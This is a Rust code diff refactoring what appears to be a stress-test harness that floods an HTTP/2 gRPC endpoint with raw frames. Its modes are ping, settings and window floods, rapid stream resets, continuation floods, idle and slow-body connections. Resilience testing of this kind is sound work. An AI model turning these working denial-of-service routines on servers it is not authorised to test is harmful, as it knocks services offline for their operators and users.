@@ -22,54 +22,23 @@ const SLOW: usize = 20;
 const LONGEST: Duration = Duration::from_secs(60);
 const PATH: &[u8] = b"/opflex.peerstatus.v1.PoolService/ListPeers";
 
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub(crate) enum Attack {
-    Ping,
-    Settings,
-    Reset,
-    Continuation,
-    Data,
-    Window,
-    Priority,
-    Silent,
-    Bodies,
-}
+/// What there is.
+pub(crate) const ATTACKS: [&str; 9] =
+    ["ping", "settings", "reset", "continuation", "data", "window", "priority", "silent", "bodies"];
+
+/// One of those.
+#[derive(Clone, Copy)]
+pub(crate) struct Attack(pub(crate) &'static str);
 
 impl Attack {
-    pub(crate) const ALL: [Self; 9] = [
-        Self::Ping,
-        Self::Settings,
-        Self::Reset,
-        Self::Continuation,
-        Self::Data,
-        Self::Window,
-        Self::Priority,
-        Self::Silent,
-        Self::Bodies,
-    ];
-
-    pub(crate) const fn name(self) -> &'static str {
-        match self {
-            Self::Ping => "ping",
-            Self::Settings => "settings",
-            Self::Reset => "reset",
-            Self::Continuation => "continuation",
-            Self::Data => "data",
-            Self::Window => "window",
-            Self::Priority => "priority",
-            Self::Silent => "silent",
-            Self::Bodies => "bodies",
-        }
-    }
-
     pub(crate) fn named(name: &str) -> Option<Self> {
-        Self::ALL.into_iter().find(|attack| attack.name() == name)
+        ATTACKS.into_iter().find(|attack| *attack == name).map(Self)
     }
 
     pub(crate) async fn run(self, address: SocketAddr) -> Outcome<()> {
-        let attackers = match self {
-            Self::Silent => SILENT,
-            Self::Bodies => SLOW,
+        let attackers = match self.0 {
+            "silent" => SILENT,
+            "bodies" => SLOW,
             _ => FLOODERS,
         };
         for _ in 0..attackers {
@@ -87,15 +56,15 @@ impl Attack {
     async fn once(self, address: SocketAddr) -> Outcome<()> {
         let (mut from, mut to) = TcpStream::connect(address).await?.into_split();
         let speak = async {
-            if self != Self::Silent {
+            if self.0 != "silent" {
                 to.write_all(&[&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, &[])].concat())
                     .await?;
                 to.write_all(&self.first()).await?;
                 for round in 0.. {
-                    to.write_all(&self.words(round)).await?;
-                    if self == Self::Bodies {
+                    if self.0 == "bodies" {
                         sleep(Duration::from_secs(1)).await;
                     }
+                    to.write_all(&self.words(round)).await?;
                 }
             }
             pending::<Outcome<()>>().await
@@ -113,11 +82,11 @@ impl Attack {
 
     /// What comes first.
     fn first(self) -> Vec<u8> {
-        match self {
-            Self::Continuation => frame(1, 0, 1, &headers()),
-            Self::Data | Self::Window => frame(1, 4, 1, &headers()),
+        match self.0 {
+            "continuation" => frame(1, 0, 1, &headers()),
+            "data" | "window" => frame(1, 4, 1, &headers()),
             // Messages of 60,000 bytes begin.
-            Self::Bodies => (0..128)
+            "bodies" => (0..128)
                 .flat_map(|number| {
                     let begin = frame(0, 0, 2 * number + 1, &[0, 0, 0, 0xea, 0x60]);
                     [frame(1, 4, 2 * number + 1, &headers()), begin].concat()
@@ -129,21 +98,21 @@ impl Attack {
 
     /// And then over and over.
     fn words(self, round: u32) -> Vec<u8> {
-        match self {
-            Self::Ping => frame(6, 0, 0, &[7; 8]).repeat(100),
-            Self::Settings => frame(4, 0, 0, &[]).repeat(100),
-            Self::Reset => (0..100)
+        match self.0 {
+            "ping" => frame(6, 0, 0, &[7; 8]).repeat(100),
+            "settings" => frame(4, 0, 0, &[]).repeat(100),
+            "reset" => (0..100)
                 .flat_map(|number| {
                     let stream = 2 * (100 * round + number) + 1;
                     [frame(1, 4, stream, &headers()), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
                 })
                 .collect(),
-            Self::Continuation => frame(9, 0, 1, &[0x40, 1, b'x', 1, b'y']).repeat(100),
-            Self::Data => frame(0, 0, 1, &[]).repeat(100),
-            Self::Window => frame(8, 0, 1, &[0, 0, 0, 1]).repeat(100),
-            Self::Priority => frame(2, 0, 3, &[0, 0, 0, 0, 16]).repeat(100),
-            Self::Bodies => (0..128).flat_map(|number| frame(0, 0, 2 * number + 1, &[7])).collect(),
-            Self::Silent => Vec::new(),
+            "continuation" => frame(9, 0, 1, &[0x40, 1, b'x', 1, b'y']).repeat(100),
+            "data" => frame(0, 0, 1, &[]).repeat(100),
+            "window" => frame(8, 0, 1, &[0, 0, 0, 1]).repeat(100),
+            "priority" => frame(2, 0, 3, &[0, 0, 0, 0, 16]).repeat(100),
+            "bodies" => (0..128).flat_map(|number| frame(0, 0, 2 * number + 1, &[7])).collect(),
+            _ => Vec::new(),
         }
     }
 }
